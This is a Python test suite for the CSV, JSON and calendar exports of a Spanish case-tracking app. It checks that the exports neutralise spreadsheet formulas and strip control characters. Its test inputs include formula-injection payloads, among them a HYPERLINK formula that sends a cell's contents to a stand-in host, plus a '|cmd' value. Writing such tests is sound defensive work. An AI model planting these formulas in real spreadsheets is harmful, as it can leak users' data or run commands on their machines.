"""Exports: a spreadsheet the reader can open, a backup, and calendar reminders."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from followup.export import (
    csv_filename,
    from_json,
    ics_filename,
    json_filename,
    legal_ics,
    timeline_csv_filename,
    to_csv,
    to_ics,
    to_json,
    to_timeline_csv,
)
from followup.model import CaseFile, Channel, Impact, Interaction, InteractionKind, SlaUnit
from followup.storage import CaseLog, StorageError, serialize
from tests.unit.case_strategies import case_logs

CASE = CaseFile(
    id="c-1",
    case_number="48213",
    company="Red Rápida, S.L.",
    channel=Channel.EMAIL,
    opened=dt.date(2026, 11, 3),
    last_contact=dt.date(2026, 11, 5),
    sla_amount=5,
    summary="Se corta la conexión; ya reinicié el router\ny nada",
    impact=Impact.CRITICAL,
    evidence=("Captura", "Factura"),
    interactions=(
        Interaction(dt.date(2026, 11, 4), Channel.EMAIL, InteractionKind.FOLLOW_UP),
        Interaction(dt.date(2026, 11, 5), Channel.PHONE, InteractionKind.CONTACT),
    ),
    next_action=dt.date(2026, 11, 12),
)
LOG = CaseLog(cases=(CASE, CaseFile(id="c-2")), active_id="c-1")
NOW = dt.datetime(2026, 11, 10, 8, 30, tzinfo=dt.UTC)


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))


def test_csv_starts_with_a_bom_and_a_spanish_header() -> None:
    text = to_csv(LOG)
    assert text.startswith("\ufeffCaso;Número de caso;Empresa;Canal;Abierto;")
    assert read_csv(text)[0] == [
        "Caso",
        "Número de caso",
        "Empresa",
        "Canal",
        "Abierto",
        "Última comunicación",
        "Plazo prometido",
        "Impacto",
        "Resumen",
        "Próxima acción",
        "Seguimientos enviados",
        "Pruebas",
        "Agente",
        "Notas del historial",
    ]


def test_csv_has_one_readable_row_per_case() -> None:
    rows = read_csv(to_csv(LOG))
    assert len(rows) == 3
    assert rows[1] == [
        "",
        "#48213",
        "Red Rápida, S.L.",
        "Correo electrónico",
        "2026-11-03",
        "2026-11-05",
        "5 días hábiles",
        "Crítico",
        "Se corta la conexión; ya reinicié el router\ny nada",
        "2026-11-12",
        "1",
        "Captura; Factura",
        "",
        "",
    ]
    assert rows[2] == ["", "", "", "", "", "", "", "", "", "", "0", "", "", ""]


def test_csv_uses_crlf_line_endings() -> None:
    text = to_csv(CaseLog(cases=(CaseFile(id="x", sla_amount=1, sla_unit=SlaUnit.HOURS),)))
    assert text.endswith("\r\n")
    assert text.count("\r\n") == 2
    assert "1 hora hábil" in text


@pytest.mark.parametrize("value", ['=HYPERLINK("x")', "+34 600", "-1", "@SUM(A1)", "|cmd"])
def test_csv_neutralises_spreadsheet_formulas(value: str) -> None:
    rows = read_csv(to_csv(CaseLog(cases=(CaseFile(id="x", company=value),))))
    assert rows[1][2] == "'" + value


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("\x00=1+1", "'=1+1"),  # the NUL vanished on import and the formula ran
        ("\t=1+1", "' =1+1"),
        ("  =1+1", "'  =1+1"),
        ("\u200b\u00a0@A1", "'\u200b\u00a0@A1"),
        ("＝1+1", "'＝1+1"),  # full-width forms, folded to ASCII by some spreadsheets
        ("﹢34", "'﹢34"),
        (
            '\x00=HYPERLINK("http://x.example/?"&B2;"Ver caso")',
            '\'=HYPERLINK("http://x.example/?"&B2;"Ver caso")',
        ),
        ("a\x07b\x1bc\x7fd\x85e", "abcde"),
        ("Resumen = bien", "Resumen = bien"),
    ],
)
def test_csv_neutralises_a_formula_whatever_precedes_it_and_drops_control_characters(
    value: str, cell: str
) -> None:
    rows = read_csv(to_csv(CaseLog(cases=(CaseFile(id="x", company=value),))))
    assert rows[1][2] == cell


@pytest.mark.parametrize("number", ["000123", "1234567890123456789", "12-05", "N/A"])
def test_case_numbers_are_exported_as_text_the_way_the_messages_write_them(number: str) -> None:
    log = CaseLog(cases=(CaseFile(id="x", case_number=number),))
    assert read_csv(to_csv(log))[1][1] == f"#{number}"
    timeline = CaseLog(
        cases=(
            CaseFile(id="x", case_number=number, interactions=(Interaction(D4, Channel.EMAIL),)),
        )
    )
    assert read_csv(to_timeline_csv(timeline))[1][1] == f"#{number}"


@given(case_logs())
def test_csv_always_parses_back_with_one_row_per_case(log: CaseLog) -> None:
    rows = read_csv(to_csv(log))
    assert len(rows) == len(log.cases) + 1
    assert all(len(row) == 14 for row in rows)


D4, D5 = dt.date(2026, 11, 4), dt.date(2026, 11, 5)


def test_csv_names_the_case_its_agent_and_the_notes_of_its_timeline() -> None:
    case = CASE.with_changes(
        title="Router",
        interactions=(
            Interaction(
                dt.date(2026, 11, 4), Channel.EMAIL, InteractionKind.FOLLOW_UP, "", "Sin respuesta"
            ),
            Interaction(
                dt.date(2026, 11, 5), Channel.PHONE, InteractionKind.CONTACT, "Ana", "Lo revisan"
            ),
        ),
    )
    row = read_csv(to_csv(CaseLog(cases=(case,))))[1]
    assert row[0] == "Router"
    assert row[-2] == "Ana"  # the last agent in the timeline, when none was named
    assert row[-1] == "2026-11-04: Sin respuesta\n2026-11-05: Lo revisan"
    named = read_csv(to_csv(CaseLog(cases=(case.with_changes(agent_name="Sr. Ramírez"),))))[1]
    assert named[-2] == "Sr. Ramírez"


def test_timeline_csv_has_one_row_per_interaction_in_date_order() -> None:
    later = Interaction(
        dt.date(2026, 11, 9), Channel.CHAT, InteractionKind.ESCALATION, "Eva", "=1+1"
    )
    case = CASE.with_changes(title="Router", interactions=(later, *CASE.interactions))
    text = to_timeline_csv(CaseLog(cases=(case, CaseFile(id="empty"))))
    assert text.startswith("\ufeffCaso;Número de caso;Empresa;Fecha;Canal;Tipo;Agente;Nota\r\n")
    rows = read_csv(text)
    assert [r[3] for r in rows[1:]] == ["2026-11-04", "2026-11-05", "2026-11-09"]
    assert rows[3] == [
        "Router",
        "#48213",
        "Red Rápida, S.L.",
        "2026-11-09",
        "Chat",
        "Solicitud de escalado",
        "Eva",
        "'=1+1",
    ]
    assert timeline_csv_filename(dt.date(2026, 11, 12)) == "sigue-tu-caso-historial-2026-11-12.csv"


def test_json_backup_round_trips() -> None:
    assert to_json(LOG) == serialize(LOG)
    assert from_json(to_json(LOG)) == LOG
    assert from_json("\ufeff" + to_json(LOG)) == LOG


def test_importing_something_else_explains_the_problem() -> None:
    with pytest.raises(StorageError) as caught:
        from_json('{"hola": 1}')
    assert caught.value.message == "Este archivo no es una copia de seguridad de Sigue tu caso."


def unfold(ics: str) -> str:
    return ics.replace("\r\n ", "")


def test_ics_is_a_calendar_with_one_all_day_event() -> None:
    ics = to_ics(CASE, NOW)
    lines = unfold(ics).split("\r\n")
    assert lines[:2] == ["BEGIN:VCALENDAR", "VERSION:2.0"]
    assert lines[-2:] == ["END:VCALENDAR", ""]
    assert any(line.startswith("PRODID:") for line in lines)
    assert lines.count("BEGIN:VEVENT") == 1
    assert "UID:c-1-20261112@sigue-tu-caso" in lines
    assert "DTSTAMP:20261110T083000Z" in lines
    assert "DTSTART;VALUE=DATE:20261112" in lines
    assert "DTEND;VALUE=DATE:20261113" in lines
    assert "SUMMARY:Seguimiento del caso #48213 – Red Rápida\\, S.L." in lines
    assert "TRIGGER;RELATED=START:PT9H" in lines
    assert "DESCRIPTION:Hoy: Seguimiento del caso #48213 – Red Rápida\\, S.L." in lines


def test_ics_uses_crlf_everywhere() -> None:
    ics = to_ics(CASE, NOW)
    assert "\n" not in ics.replace("\r\n", "")
    assert "\r" not in ics.replace("\r\n", "")


def test_ics_escapes_text_values() -> None:
    description = next(
        line for line in unfold(to_ics(CASE, NOW)).split("\r\n") if line.startswith("DESCRIPTION:")
    )
    assert "Resumen: Se corta la conexión\\; ya reinicié el router y nada" in description
    assert "Empresa: Red Rápida\\, S.L.\\n" in description
    slashes = CASE.with_changes(company="A\\B", summary="uno\r\ndos")
    text = unfold(to_ics(slashes, NOW))
    assert "A\\\\B" in text
    assert "uno dos" in text


def test_ics_lines_are_folded_at_75_octets_without_breaking_characters() -> None:
    long = CASE.with_changes(summary="Conexión ñandú " * 30, company="Compañía " * 20)
    ics = to_ics(long, NOW)
    for line in ics.split("\r\n"):
        assert len(line.encode("utf-8")) <= 75
    assert "ñandú" in unfold(ics)


def test_ics_timestamp_is_in_utc() -> None:
    madrid = dt.datetime(2026, 11, 10, 9, 30, tzinfo=dt.timezone(dt.timedelta(hours=1)))
    assert "DTSTAMP:20261110T083000Z" in to_ics(CASE, madrid)
    assert "DTSTAMP:20261110T083000Z" in to_ics(CASE, NOW.replace(tzinfo=None))


def test_ics_for_another_day_and_a_case_without_number() -> None:
    unnamed = CaseFile(id="a b/ç", title="Luz de casa")
    ics = unfold(to_ics(unnamed, NOW, day=dt.date(2026, 12, 1)))
    assert "UID:a-b---20261201@sigue-tu-caso" in ics
    assert "SUMMARY:Seguimiento: Luz de casa" in ics
    assert "Número de caso" not in ics
    number_only = CaseFile(id="n", case_number="77", next_action=dt.date(2026, 12, 2))
    assert "SUMMARY:Seguimiento del caso #77\r\n" in to_ics(number_only, NOW)


def test_ics_uid_is_stable_for_the_same_case_and_day() -> None:
    uid = [line for line in to_ics(CASE, NOW).split("\r\n") if line.startswith("UID:")]
    later = [
        line
        for line in to_ics(CASE, NOW + dt.timedelta(hours=5)).split("\r\n")
        if line.startswith("UID:")
    ]
    assert uid == later


def test_ics_without_a_date_explains_in_spanish() -> None:
    with pytest.raises(ValueError, match="Indica la fecha de la próxima acción"):
        to_ics(CaseFile(id="x"), NOW)


@given(text=st.text(max_size=300))
def test_ics_folding_holds_for_any_text(text: str) -> None:
    ics = to_ics(CASE.with_changes(summary=text, company=text), NOW)
    lines = ics.split("\r\n")
    assert all(len(line.encode("utf-8")) <= 75 for line in lines)
    assert all(line.startswith(" ") or re.match(r"[A-Z]", line) for line in lines if line)


def test_file_names() -> None:
    assert ics_filename(CASE) == "seguimiento-caso-48213.ics"
    assert (
        ics_filename(CASE.with_changes(case_number="INC/Nº 12")) == "seguimiento-caso-inc-no-12.ics"
    )
    assert ics_filename(CaseFile(id="x")) == "seguimiento-caso.ics"
    assert ics_filename(CaseFile(id="x", case_number="¿?")) == "seguimiento-caso.ics"
    assert csv_filename(dt.date(2026, 11, 10)) == "sigue-tu-caso-2026-11-10.csv"
    assert json_filename(dt.date(2026, 11, 10)) == "sigue-tu-caso-copia-2026-11-10.json"


# --- every calendar file is valid RFC 5545 (parsed by the PyPI `icalendar` package) -----

# Any character at all, controls and lone surrogates included: what a stored document or a
# paste can bring.
hostile_text = st.text(st.characters(codec=None, categories=None), max_size=80)
valid_days = st.dates(min_value=dt.date(1970, 1, 1), max_value=dt.date(2100, 12, 31))
CONTROL = re.compile("[\x00-\x08\x0a-\x1f\x7f]")


def assert_valid_calendar(text: str) -> None:
    import icalendar

    assert not CONTROL.search(text.replace("\r\n", "")), "a control character in the file"
    assert all(len(line.encode()) <= 75 for line in text.split("\r\n"))
    calendar = icalendar.Calendar.from_ical(text)
    assert not calendar.errors
    (event,) = calendar.walk("VEVENT")
    assert not event.errors and event.get("DTSTART") and event.get("SUMMARY") is not None
    alarms = event.walk("VALARM")
    assert alarms and all(alarm.get("TRIGGER") is not None for alarm in alarms)
    assert calendar.to_ical()  # and it writes back


@given(
    title=hostile_text,
    number=hostile_text,
    company=hostile_text,
    summary=hostile_text,
    day=valid_days,
)
def test_every_calendar_file_is_valid_whatever_the_case_holds(
    title: str, number: str, company: str, summary: str, day: dt.date
) -> None:
    case = CaseFile(
        id="c-1", title=title, case_number=number, company=company, summary=summary, next_action=day
    )
    now = dt.datetime(2026, 11, 12, 10, 30, tzinfo=dt.UTC)
    assert_valid_calendar(to_ics(case, now))
    assert_valid_calendar(legal_ics(case, now, day, "la empresa debe responder"))


def test_control_characters_typed_into_a_field_never_reach_the_calendar_file() -> None:
    import icalendar

    case = CaseFile(
        id="c-1", case_number="48\x00213", company="Conecta\x07\x1b Fibra\x7f", next_action=D4
    )
    text = to_ics(case, dt.datetime(2026, 11, 12, tzinfo=dt.UTC))
    assert_valid_calendar(text)
    (event,) = icalendar.Calendar.from_ical(text).walk("VEVENT")
    assert str(event["SUMMARY"]) == "Seguimiento del caso #48213 – Conecta Fibra"


def test_a_date_out_of_range_is_refused_with_a_message_instead_of_a_crash() -> None:
    case = CaseFile(id="c-1", next_action=dt.date(9999, 12, 31))
    with pytest.raises(ValueError, match="entre el año 1970"):
        to_ics(case, dt.datetime(2026, 11, 12, tzinfo=dt.UTC))
